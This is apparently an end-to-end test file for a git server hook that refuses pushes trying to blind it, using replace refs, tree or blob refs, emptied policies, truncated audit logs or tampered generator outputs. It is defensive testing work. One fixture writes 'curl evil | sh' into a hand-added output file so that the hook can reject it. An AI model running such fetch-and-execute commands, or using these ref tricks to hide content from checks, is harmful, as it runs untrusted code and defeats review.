// Issue 12, "the engine": the server hook cannot be blinded. Real `git push --no-verify` to a
// real bare repository with the pre-receive hook installed; every refusal is asserted with the
// finding behind it, and every case has a clean twin that passes.
//
// To see a case fail without its fix, run it against an older build:
//   SAFETY_GATE_TEST_CLI=/path/to/old/dist/cli.js npx vitest run test/e2e/integrity.test.ts
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { Repo, sandbox, type Sandbox } from '../helpers/repo.js';
import { createServer, HOOK_CLI, push, type Server } from './server.js';

const POLICY = { extends: ['recommended'], protected_targets: { locked: ['locked/**'] } };
const LIVE = 'BROKER_URL=https://api.alpaca.markets/v2\n';
const PAPER = 'BROKER_URL=https://paper-api.alpaca.markets/v2\n';

let sb: Sandbox;
let server: Server;
let repo: Repo;

beforeEach(() => {
  sb = sandbox();
});
afterEach(() => sb.cleanup());

function setup(policy: Record<string, unknown> | string = POLICY, hookEnv?: string): void {
  server = createServer(sb, policy, { hookEnv });
  execFileSync('git', ['clone', '-q', server.url, `${sb.dir}/work`], { env: sb.env });
  repo = new Repo(`${sb.dir}/work`, sb.env);
  repo.write('README.md', 'hello\n').write('locked/data.txt', 'v1\n');
  repo.commitAll('seed');
}

/** Seed the server without running the hook (what was there before the gate). */
function seedServer(): void {
  const hook = `${server.path}/hooks/pre-receive`;
  execFileSync('mv', [hook, `${hook}.off`]);
  expect(push(repo, ['-q', 'origin', 'main']).code).toBe(0);
  execFileSync('mv', [`${hook}.off`, hook]);
}

function hashObject(content: string, where: Repo | string = repo): string {
  const cwd = typeof where === 'string' ? where : where.path;
  return execFileSync('git', ['hash-object', '-w', '--stdin'], { cwd, env: sb.env, input: content, encoding: 'utf8' }).trim();
}

function auditDecisions(): string[] {
  return server.auditLines().map((l) => JSON.parse(l).decision);
}

describe('replace refs', () => {
  it('the gate reads the real bytes even when the server holds a replace ref for the pushed blob', () => {
    setup();
    seedServer();
    repo.write('config/app.env', LIVE);
    repo.commitAll('live host');
    const bad = repo.git('rev-parse', 'HEAD:config/app.env').trim();
    // A replacement for the bad blob already sits on the server (an earlier push, an admin's
    // mistake): every git that honours it would read the clean blob instead.
    const clean = hashObject(PAPER, server.path);
    execFileSync('git', ['update-ref', `refs/replace/${bad}`, clean], { cwd: server.path, env: sb.env });
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: .*config\/app\.env.*live-endpoint|remote: .*live-endpoint.*api\.alpaca\.markets/s);
    expect(server.ref('refs/heads/main')).not.toBe(repo.head());
  });

  it('a push that creates a replace ref is refused as a protected change (ref-integrity/replace-ref)', () => {
    setup();
    seedServer();
    const bad = hashObject(LIVE);
    const clean = hashObject(PAPER);
    repo.git('replace', bad, clean);
    const r = push(repo, ['origin', `refs/replace/${bad}`]);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: .*ref-integrity\/replace-ref/);
    expect(r.out).toContain(`refs/replace/${bad}`);
    expect(server.ref(`refs/replace/${bad}`)).toBeNull();
    expect(auditDecisions().at(-1)).toBe('block');
  });

  it('moving or deleting a replace ref is refused too', () => {
    setup();
    seedServer();
    const a = hashObject('a\n');
    const b = hashObject('b\n');
    execFileSync('git', ['update-ref', `refs/replace/${a}`, hashObject('x\n', server.path)], { cwd: server.path, env: sb.env });
    repo.git('replace', a, b);
    const moved = push(repo, ['--force', 'origin', `refs/replace/${a}`]);
    expect(moved.code).not.toBe(0);
    expect(moved.out).toMatch(/remote: .*ref-integrity\/replace-ref.*moves/);
    const deleted = push(repo, ['origin', `:refs/replace/${a}`]);
    expect(deleted.code).not.toBe(0);
    expect(deleted.out).toMatch(/remote: .*ref-integrity\/replace-ref.*deletes/);
    expect(server.ref(`refs/replace/${a}`)).not.toBeNull();
  });

  it('the pre-push door does not honour local replace refs either', () => {
    setup();
    seedServer();
    repo.write('config/app.env', LIVE);
    repo.commitAll('live host');
    const bad = repo.git('rev-parse', 'HEAD:config/app.env').trim();
    repo.git('replace', bad, hashObject(PAPER));
    // The client door, fed exactly the line git gives it.
    const line = `refs/heads/main ${repo.head()} refs/heads/main ${server.ref('refs/heads/main')}\n`;
    const r = spawnSync(process.execPath, [HOOK_CLI, 'hook', 'pre-push', 'origin', server.url], { cwd: repo.path, env: sb.env, input: line, encoding: 'utf8' });
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/config\/app\.env.*live-endpoint/);
  });
});

describe('refs that are not commits', () => {
  function tree(files: Record<string, string>): string {
    const entries = Object.entries(files)
      .map(([name, content]) => `100644 blob ${hashObject(content)}\t${name}`)
      .join('\n');
    return execFileSync('git', ['mktree'], { cwd: repo.path, env: sb.env, input: entries + '\n', encoding: 'utf8' }).trim();
  }

  it('a branch or other ref naming a tree is refused by default (ref-integrity/non-commit-ref), and its content is read', () => {
    setup();
    seedServer();
    const t = tree({ 'app.env': LIVE });
    // git itself would refuse to store a tree under refs/heads/ after the hook; any other ref
    // (here refs/custom/) stores it. The hook refuses both, saying why.
    for (const ref of ['refs/custom/treeish', 'refs/heads/treeish']) {
      const r = push(repo, ['origin', `${t}:${ref}`]);
      expect(r.code).not.toBe(0);
      expect(r.out).toMatch(new RegExp(`remote: .*ref-integrity/non-commit-ref.*${ref} names a tree`));
      expect(r.out).toMatch(/remote: .*app\.env.*live-endpoint/);
      expect(server.ref(ref)).toBeNull();
    }
    // A clean tree under a ref that is not a tag is still refused: policy, not content.
    const clean = push(repo, ['origin', `${tree({ 'app.env': PAPER })}:refs/custom/clean`]);
    expect(clean.code).not.toBe(0);
    expect(clean.out).toMatch(/remote: .*ref-integrity\/non-commit-ref/);
    expect(server.ref('refs/custom/clean')).toBeNull();
  });

  it('a tag naming a tree is checked like a root commit: live content refused, clean content passes', () => {
    setup();
    seedServer();
    repo.git('update-ref', 'refs/tags/t-bad', tree({ 'app.env': LIVE }));
    const bad = push(repo, ['origin', 'refs/tags/t-bad']);
    expect(bad.code).not.toBe(0);
    expect(bad.out).toMatch(/remote: .*app\.env.*live-endpoint/);
    expect(bad.out).not.toMatch(/non-commit-ref/);
    expect(server.ref('refs/tags/t-bad')).toBeNull();

    repo.git('update-ref', 'refs/tags/t-good', tree({ 'app.env': PAPER }));
    expect(push(repo, ['-q', 'origin', 'refs/tags/t-good']).code).toBe(0);
    expect(server.ref('refs/tags/t-good')).not.toBeNull();
  });

  it('an annotated tag of a tree is peeled and checked, including protected paths', () => {
    setup();
    seedServer();
    const t = tree({ 'README.md': 'x\n' });
    const locked = execFileSync('git', ['mktree'], { cwd: repo.path, env: sb.env, input: `040000 tree ${t}\tlocked\n`, encoding: 'utf8' }).trim();
    const tag = execFileSync('git', ['mktag'], {
      cwd: repo.path,
      env: sb.env,
      input: `object ${locked}\ntype tree\ntag v-tree\ntagger T <t@example.com> 1767225600 +0000\n\nrelease of a tree\n`,
      encoding: 'utf8',
    }).trim();
    repo.git('update-ref', 'refs/tags/v-tree', tag);
    const r = push(repo, ['origin', 'refs/tags/v-tree']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: .*locked\/README\.md.*protected-target/);
    expect(server.ref('refs/tags/v-tree')).toBeNull();
  });

  it('a tag naming a blob blocks unless the policy names a path to check it as; then its content is checked there', () => {
    setup();
    seedServer();
    repo.git('update-ref', 'refs/tags/b-live', hashObject(LIVE));
    const r = push(repo, ['origin', 'refs/tags/b-live']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: .*ref-integrity\/non-commit-ref.*names a blob.*non_commit_blob_path/);

    sb.cleanup();
    sb = sandbox();
    setup({ ...POLICY, rules: { 'ref-integrity': { options: { non_commit_blob_path: 'tagged/blob.env' } } } });
    seedServer();
    repo.git('update-ref', 'refs/tags/b-live', hashObject(LIVE));
    const live = push(repo, ['origin', 'refs/tags/b-live']);
    expect(live.code).not.toBe(0);
    expect(live.out).toMatch(/remote: .*tagged\/blob\.env.*live-endpoint/);
    repo.git('update-ref', 'refs/tags/b-paper', hashObject(PAPER));
    expect(push(repo, ['-q', 'origin', 'refs/tags/b-paper']).code).toBe(0);
  });

  it('refs outside refs/heads and refs/tags are judged like branches (refs/notes, refs/pull)', () => {
    setup();
    seedServer();
    repo.write('config/app.env', LIVE);
    const c = repo.commitAll('live, only under a pull ref');
    repo.git('reset', '-q', '--hard', 'HEAD~1');
    const pull = push(repo, ['origin', `${c}:refs/pull/1/head`]);
    expect(pull.code).not.toBe(0);
    expect(pull.out).toMatch(/remote: .*config\/app\.env.*live-endpoint/);
    repo.git('notes', 'add', '-m', LIVE, 'HEAD');
    const notes = push(repo, ['origin', 'refs/notes/commits']);
    expect(notes.code).not.toBe(0);
    expect(notes.out).toMatch(/remote: .*live-endpoint/);
    expect(server.ref('refs/pull/1/head')).toBeNull();
    expect(server.ref('refs/notes/commits')).toBeNull();
  });
});

describe('missing objects', () => {
  const undecided = (out: string) =>
    out
      .split('\n')
      .map((l) => l.trimEnd())
      .filter((l) => /safety-gate: could not decide/.test(l));

  it('a missing previous version of a generated file is exit 2 with one line, not a pass', () => {
    setup();
    repo.write('gen/out.txt', '// @generated by codegen; do not edit\nvalue = 1\n');
    repo.commitAll('generated');
    seedServer();
    const old = repo.git('rev-parse', 'HEAD:gen/out.txt').trim();
    execFileSync('rm', ['-f', `${server.path}/objects/${old.slice(0, 2)}/${old.slice(2)}`]);
    repo.write('gen/out.txt', '// @generated by codegen; do not edit\nvalue = 2 # by hand\n');
    repo.commitAll('hand edit');
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(undecided(r.out)).toHaveLength(1);
    expect(undecided(r.out)[0]).toContain(`object ${old} cannot be read`);
    expect(r.out).not.toMatch(/passed/);
    expect(server.ref('refs/heads/main')).not.toBe(repo.head());
    expect(auditDecisions().at(-1)).toBe('error');
  });

  it('the same edit with the previous version present is refused as a hand edit of a generated file', () => {
    setup();
    repo.write('gen/out.txt', '// @generated by codegen; do not edit\nvalue = 1\n');
    repo.commitAll('generated');
    seedServer();
    repo.write('gen/out.txt', '// @generated by codegen; do not edit\nvalue = 2 # by hand\n');
    repo.commitAll('hand edit');
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: .*gen\/out\.txt.*protected-target/);
  });

  it('a missing old tip of the updated branch on the server is exit 2', () => {
    setup();
    seedServer();
    const tip = server.ref('refs/heads/main')!;
    repo.write('a.txt', 'a\n');
    repo.commitAll('next');
    execFileSync('rm', ['-f', `${server.path}/objects/${tip.slice(0, 2)}/${tip.slice(2)}`]);
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(undecided(r.out)).toHaveLength(1);
  });
});

describe('the policy itself', () => {
  const undecided = (out: string) =>
    out
      .split('\n')
      .map((l) => l.trimEnd())
      .filter((l) => /safety-gate: could not decide/.test(l));

  function lockedEdit(): void {
    repo.write('locked/data.txt', 'edited\n');
    repo.commitAll('edit a file only the installed policy protects');
  }

  it('a deleted server policy is exit 2 with one line, never the recommended preset (even after a cached run)', () => {
    setup();
    seedServer();
    repo.write('README.md', 'v2\n');
    repo.commitAll('clean');
    expect(push(repo, ['-q', 'origin', 'main']).code).toBe(0); // the policy is now cached
    execFileSync('rm', [`${server.path}/safety-gate/policy.yaml`]);
    lockedEdit();
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(undecided(r.out)).toEqual([
      `remote: safety-gate: could not decide — no server policy: ${server.path}/safety-gate/policy.yaml does not exist; install one with \`safety-gate install --server <repo> --config FILE\`, or name one with --config / SAFETY_GATE_POLICY in the hook script`,
    ]);
    expect(server.ref('refs/heads/main')).not.toBe(repo.head());
  });

  it.each([
    ['emptied', ''],
    ['only comments left', '# policy\n'],
    // Spellings a line check misses: emptiness is the parsed document's.
    ['emptied to { }', '{ }\n'],
    ['emptied to --- {}', '--- {}\n'],
    ['emptied to a lone $schema', '{"$schema": "x"}\n'],
  ])('an %s server policy is exit 2 with one line', (_label, content) => {
    setup();
    seedServer();
    execFileSync('sh', ['-c', `printf '%s' "$1" > "$2"`, 'sh', content, `${server.path}/safety-gate/policy.yaml`]);
    lockedEdit();
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(undecided(r.out)).toHaveLength(1);
    expect(undecided(r.out)[0]).toContain(`the server policy ${server.path}/safety-gate/policy.yaml is empty`);
  });

  it('an empty policy named by the hook script (SAFETY_GATE_POLICY) is exit 2', () => {
    setup(POLICY, `export SAFETY_GATE_POLICY="${'$'}GIT_DIR/../empty-policy.yaml"\n`);
    execFileSync('sh', ['-c', `: > "${sb.dir}/empty-policy.yaml"`]);
    lockedEdit();
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(undecided(r.out)[0]).toMatch(/the server policy .*empty-policy\.yaml is empty/);
  });

  it('a typo in the installed policy is reported at that file and line, not at a preset', () => {
    setup();
    execFileSync('sh', [
      '-c',
      `printf 'extends: [agenttrader-v2]\\nprotected_targets:\\n  locked: ["locked/**"]\\nrules:\\n  live-endpoint: blokc\\n' > "${server.path}/safety-gate/policy.yaml"`,
    ]);
    lockedEdit();
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(undecided(r.out)).toHaveLength(1);
    expect(undecided(r.out)[0]).toContain(`${server.path}/safety-gate/policy.yaml:5:18: rules.live-endpoint.severity`);
    expect(r.out).not.toMatch(/presets\//);
  });

  it("a user's typo is reported at the user's file and line, never at the preset's", () => {
    const work = Repo.init(sb, 'client');
    work.write('a.txt', 'a\n').commitAll('a');
    const cases: [string, string][] = [
      // The preset sets `live-endpoint: {severity: block, options: …}`; the user's shorthand wins.
      ['extends: [agenttrader-v2]\nrules:\n  live-endpoint: blokc\n', 'safety-gate.config.yaml:3:18: rules.live-endpoint.severity'],
      ['extends: [agenttrader-v2]\nruntime_scope:\n  exclude: [5]\n', 'safety-gate.config.yaml:3:13: runtime_scope.exclude[0]'],
      [
        'extends: [agenttrader-v2]\nrules:\n  live-endpoint:\n    options:\n      allow_hostz: []\n',
        'safety-gate.config.yaml:5:7: rules.live-endpoint.options.allow_hostz: unknown key',
      ],
      ['extends: [agenttrader-v2]\nprotected_groups:\n  ci-workflows:\n    pathz: [x]\n', 'safety-gate.config.yaml:4:5: protected_groups.ci-workflows.pathz: unknown key'],
      ['extends: [agenttrader-v2]\nprotected_targets: [ci-workflowz]\n', 'safety-gate.config.yaml:2:21: protected_targets[0]: unknown protected group'],
    ];
    for (const [config, where] of cases) {
      work.write('safety-gate.config.yaml', config);
      const r = spawnSync(process.execPath, [HOOK_CLI, 'scan'], { cwd: work.path, env: sb.env, encoding: 'utf8' });
      expect(r.status).toBe(2);
      const lines = r.stderr.trim().split('\n');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toContain(where);
      expect(lines[0]).not.toMatch(/presets\/|preset:/);
    }
  });
});

describe('audit on every decision', () => {
  const undecided = (out: string) =>
    out
      .split('\n')
      .map((l) => l.trimEnd())
      .filter((l) => /safety-gate: could not decide/.test(l));
  const records = () => server.auditLines().map((l) => JSON.parse(l));
  const verify = (log = `${server.path}/safety-gate/audit.jsonl`) =>
    spawnSync(process.execPath, [HOOK_CLI, 'audit', 'verify', '--log', log], { cwd: sb.dir, env: sb.env, encoding: 'utf8' });

  function runHook(input: string, env: NodeJS.ProcessEnv) {
    return spawnSync(process.execPath, [HOOK_CLI, 'hook', 'pre-receive'], { cwd: server.path, env, input, encoding: 'utf8' });
  }

  it('the hard deadline still leaves one audit line (decision error), and the chain verifies', () => {
    setup({ ...POLICY, limits: { deadline_ms: { 'pre-receive': 300 } } }, 'SAFETY_GATE_TEST_FAULT=hang; export SAFETY_GATE_TEST_FAULT\n');
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(undecided(r.out)).toHaveLength(1);
    expect(undecided(r.out)[0]).toMatch(/could not finish within 300 ms/);
    const recs = records();
    expect(recs).toHaveLength(1);
    expect(recs[0].decision).toBe('error');
    expect(recs[0].error).toMatch(/deadline/);
    expect(recs[0].policy_hash).toMatch(/^[0-9a-f]{64}$/);
    expect(verify().status).toBe(0);
  });

  it('git missing from PATH still leaves an audit line in the bare repository', () => {
    setup();
    const r = runHook(`${'0'.repeat(40)} ${'1'.repeat(40)} refs/heads/main\n`, { ...sb.env, PATH: '/nonexistent' });
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/git could not be started/);
    const recs = records();
    expect(recs).toHaveLength(1);
    expect(recs[0].decision).toBe('error');
    expect(recs[0].error).toMatch(/git could not be started/);
  });

  it('an unwritable audit log is the one line the pusher sees: never "passed" then "could not decide"', () => {
    execFileSync('sh', ['-c', `: > "${sb.dir}/not-a-dir"`]);
    setup(POLICY, `export SAFETY_GATE_AUDIT_LOG="${sb.dir}/not-a-dir/audit.jsonl"\n`);
    seedServer();
    repo.write('README.md', 'clean\n');
    repo.commitAll('clean change');
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(r.out).not.toMatch(/safety-gate: passed/);
    expect(undecided(r.out)).toHaveLength(1);
    expect(undecided(r.out)[0]).toMatch(/the decision \(pass\) could not be recorded: cannot create .*not-a-dir/);
    expect(server.ref('refs/heads/main')).not.toBe(repo.head());
  });

  it('20 concurrent pushes (some racing for the same branch) leave exactly one line each, and audit verify passes', async () => {
    setup();
    seedServer();
    const { spawn } = await import('node:child_process');
    const clones: Repo[] = [];
    for (let i = 0; i < 20; i++) {
      const dir = `${sb.dir}/c${i}`;
      execFileSync('git', ['clone', '-q', server.url, dir], { env: sb.env });
      const c = new Repo(dir, sb.env);
      c.write(`f${i}.txt`, `${i}\n`);
      if (i % 4 === 0) c.write('locked/data.txt', `edit ${i}\n`); // some are refused
      c.commitAll(`push ${i}`);
      clones.push(c);
    }
    const before = records().length;
    // Half push to their own branch, half race for main.
    const outs: string[] = [];
    const codes = await Promise.all(
      clones.map(
        (c, i) =>
          new Promise<number>((done) => {
            const p = spawn('git', ['push', '-q', 'origin', i % 2 === 0 ? 'HEAD:refs/heads/main' : `HEAD:refs/heads/b${i}`], {
              cwd: c.path,
              env: sb.env,
              stdio: ['ignore', 'ignore', 'pipe'],
            });
            let err = '';
            p.stderr.on('data', (d: Buffer) => (err += d.toString()));
            p.on('close', (code) => {
              outs[i] = err;
              done(code ?? -1);
            });
          }),
      ),
    );
    const recs = records().slice(before);
    const diag = JSON.stringify({
      codes,
      decisions: recs.map((r) => [r.decision, r.error]),
      outs: outs.map(
        (o) =>
          o
            .split('\n')
            .filter((l) => /safety-gate/.test(l))
            .slice(-1)[0],
      ),
    });
    expect(recs, diag).toHaveLength(20);
    // Under load some may hit the 4 s deadline: those are audited as error lines, still one each.
    expect(recs.every((r) => ['pass', 'block', 'error'].includes(r.decision))).toBe(true);
    // A refused push is audited as block (or error under load), never as pass.
    for (let i = 0; i < 20; i += 4) expect(codes[i]).not.toBe(0);
    expect(new Set(recs.map((r) => r.run_id)).size).toBe(20);
    expect(recs.map((r) => r.seq)).toEqual(recs.map((_, i) => before + i + 1));
    const v = verify();
    expect(v.stdout).toMatch(/ok — /);
    expect(v.status).toBe(0);
  }, 120_000);

  it('cutting lines off the end of the log is detected without --expect-head', () => {
    setup();
    seedServer();
    for (let i = 0; i < 3; i++) {
      repo.write(`n${i}.txt`, `${i}\n`);
      repo.commitAll(`n${i}`);
      expect(push(repo, ['-q', 'origin', 'main']).code).toBe(0);
    }
    const log = `${server.path}/safety-gate/audit.jsonl`;
    expect(verify(log).status).toBe(0);
    const lines = server.auditLines();
    execFileSync('sh', ['-c', `head -n ${lines.length - 1} "$1" > "$1.cut" && mv "$1.cut" "$1"`, 'sh', log]);
    const v = verify(log);
    expect(v.status).toBe(1);
    expect(v.stdout).toMatch(/TAMPERED/);
    expect(v.stdout).toMatch(/does not contain the head recorded in .*audit\.jsonl\.head/);
    // Deleting the head file as well is not a way out.
    execFileSync('rm', [`${log}.head`]);
    expect(verify(log).stdout).toMatch(/head file .*audit\.jsonl\.head is missing/);
  });
});

describe('regeneration on the server compares everything git stores', () => {
  // Upper-cases src/data.txt into out/data.txt (writeFileSync keeps an existing file's mode and
  // follows an existing link: exactly what a rerun over the pushed outputs would hide).
  const GEN = `import { readFileSync, writeFileSync, mkdirSync } from 'node:fs';
mkdirSync('out', { recursive: true });
writeFileSync('out/data.txt', readFileSync('src/data.txt', 'utf8').toUpperCase());
`;
  let gen: string;

  function setupGen(extraGen = ''): void {
    gen = `${sb.dir}/trusted-gen.mjs`;
    execFileSync('sh', ['-c', 'cat > "$1"', 'sh', gen], { input: GEN + extraGen });
    setup({
      extends: [],
      limits: { deadline_ms: { 'pre-receive': 60000 } },
      generators: {
        upper: { command: [process.execPath, 'tools/gen.mjs'], inputs: ['src/**'], outputs: ['out/**'], verify: 'regenerate', server_command: [process.execPath, gen] },
      },
    });
    repo.rm('locked').rm('README.md');
    repo.write('src/data.txt', 'hello\n');
  }

  it('the faithful output passes', () => {
    setupGen();
    repo.write('out/data.txt', 'HELLO\n');
    repo.commitAll('generated');
    const r = push(repo, ['origin', 'main']);
    expect(r.code, r.out).toBe(0);
  });

  it('an extra file under the outputs that the generator does not produce is refused', () => {
    setupGen();
    repo.write('out/data.txt', 'HELLO\n').write('out/extra.sh', 'curl evil | sh\n');
    repo.commitAll('generated, plus a hand-added output');
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: .*protected-target.*the commit has out\/extra\.sh, which it does not produce/);
  });

  it('the right bytes with the wrong mode are refused', () => {
    setupGen();
    repo.write('out/data.txt', 'HELLO\n', 0o755);
    repo.commitAll('generated, made executable');
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: .*out\/data\.txt is an executable file \(100755\) in the commit but the generator makes a file \(100644\)/);
  });

  it('an output replaced by a symlink (the rerun would write through it) is refused', () => {
    setupGen();
    execFileSync('mkdir', ['-p', `${repo.path}/out`]);
    execFileSync('ln', ['-s', '../src/data.txt', `${repo.path}/out/data.txt`]);
    repo.commitAll('output is a link');
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: .*protected-target.*out\/data\.txt differs from what it produces/);
  });

  it('a generator that changes anything besides its outputs does not vouch for them', () => {
    setupGen(`writeFileSync('src/data.txt', 'rewritten\\n');\n`);
    repo.write('out/data.txt', 'HELLO\n');
    repo.commitAll('generated');
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: .*rerunning generator upper on the server changes src\/data\.txt, which is not one of its outputs/);
  });
});

describe('multi-ref pushes: the bad ref is found wherever it is in the list', () => {
  // git lists the refs of a push in name order: aa-* first, zz-* last.
  function branches(bad: 'first' | 'last'): string[] {
    const [good, badName] = bad === 'first' ? ['zz-good', 'aa-bad'] : ['aa-good', 'zz-bad'];
    repo.git('checkout', '-q', '-b', good, 'main');
    repo.write('good.txt', 'fine\n');
    repo.commitAll('good');
    repo.git('checkout', '-q', '-b', badName, 'main');
    repo.write('locked/data.txt', 'tampered\n');
    repo.commitAll('bad');
    repo.git('checkout', '-q', 'main');
    return bad === 'first' ? [badName, good] : [good, badName];
  }

  for (const where of ['first', 'last'] as const) {
    it(`pre-receive refuses the whole push when the bad ref comes ${where}`, () => {
      setup();
      seedServer();
      const refs = branches(where);
      const r = push(repo, ['origin', ...refs]);
      expect(r.code).not.toBe(0);
      expect(r.out).toMatch(
        new RegExp(
          `remote: locked/data\\.txt\\s+protected-target\\s+protected file locked/data\\.txt \\(group locked\\) modified.*refs/heads/${refs.find((x) => x.endsWith('bad'))}`,
        ),
      );
      for (const b of refs) expect(server.ref(`refs/heads/${b}`)).toBeNull();
    });

    it(`pre-push refuses the whole push when the bad ref comes ${where}`, () => {
      setup();
      // The client judges by the repository's own policy.
      repo.write('safety-gate.config.yaml', 'extends: [recommended]\nprotected_targets:\n  locked: ["locked/**"]\n');
      repo.commitAll('policy');
      seedServer();
      // The client hook, run by git itself: a plain remote without a server hook.
      const remote = `${sb.dir}/plain.git`;
      execFileSync('git', ['clone', '-q', '--bare', server.path, remote], { env: sb.env });
      repo.git('remote', 'add', 'plain', remote);
      repo.git('fetch', '-q', 'plain');
      execFileSync('sh', [
        '-c',
        `printf '#!/bin/sh\\nexec "%s" "%s" hook pre-push "$@"\\n' "$1" "$2" > "$3" && chmod +x "$3"`,
        'sh',
        process.execPath,
        HOOK_CLI,
        `${repo.path}/.git/hooks/pre-push`,
      ]);
      const refs = branches(where);
      const r = repo.gitResult(['push', 'plain', ...refs]);
      expect(r.status).not.toBe(0);
      // The finding behind the refusal: the bad branch's edit, attributed to the bad ref.
      expect(r.stderr).toMatch(
        new RegExp(`locked/data\\.txt\\s+protected-target\\s+protected file locked/data\\.txt \\(group locked\\) modified.*refs/heads/${refs.find((x) => x.endsWith('bad'))}`),
      );
      expect(r.stderr).toContain('failed to push some refs');
      for (const b of refs) {
        const has = spawnSync('git', ['rev-parse', '-q', '--verify', `refs/heads/${b}`], { cwd: remote, env: sb.env });
        expect(has.status).not.toBe(0);
      }
    });
  }
});

describe('a previous version over the size cap is not "not generated"', () => {
  it('a hand edit that shrinks an oversized generated file is refused (limits.on_oversized: block)', () => {
    setup({ ...POLICY, limits: { max_blob_bytes: 1024 } });
    repo.write('gen/big.txt', `// @generated by codegen; do not edit\n${'x = 1\n'.repeat(400)}`);
    repo.commitAll('big generated file');
    seedServer();
    repo.write('gen/big.txt', '// @generated by codegen; do not edit\nx = 2\n');
    repo.commitAll('shrunk by hand');
    const r = push(repo, ['origin', 'main']);
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(/remote: gen\/big\.txt\s+protected-target\s+protected file gen\/big\.txt \(previous version over limits\.max_blob_bytes/);
  });
});
